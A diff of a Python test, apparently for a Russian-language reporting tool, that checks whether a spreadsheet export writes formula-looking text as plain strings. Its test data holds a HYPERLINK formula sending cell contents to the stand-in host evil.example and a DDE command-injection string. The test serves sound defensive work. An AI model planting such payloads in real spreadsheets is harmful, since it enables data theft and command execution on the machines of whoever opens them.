@@ -13,7 +13,9 @@ HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")'
 
 def test_texts_that_look_like_formulas_are_exported_as_strings() -> None:
     figures = {"kpis": [{"title": "Доля обучающихся 10–19 лет", "value": 0.5, "target": 0.7,
-                         "numerator": 5, "denominator": 10, "met": False}],
+                         "numerator": 5, "denominator": 10, "met": False, "display": "50,0 %",
+                         "target_display": "70,0 %", "met_display": "нет",
+                         "calculation": "5 из 10"}],
                "mentees": {"total": 5}}
     children = [{"name": "+cmd|' /C calc'!A0", "kind": "school", "kpi": None,
                  "figures": {"mentees": 3, "mentors": 1}, "late": 1}]
@@ -32,4 +34,5 @@ def test_texts_that_look_like_formulas_are_exported_as_strings() -> None:
     # no cell anywhere is a formula; numbers stay numbers
     assert not [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
     assert book["Рейтинг"]["E2"].value == 3 and book["Рейтинг"]["E2"].data_type == "n"
-    assert book["Показатели"]["B4"].value == 50
+    assert book["Показатели"]["B5"].value == "50,0 %"  # the one formatter's text, as on screen
+    assert book["Показатели"]["F5"].value == 5 and book["Показатели"]["F5"].data_type == "n"
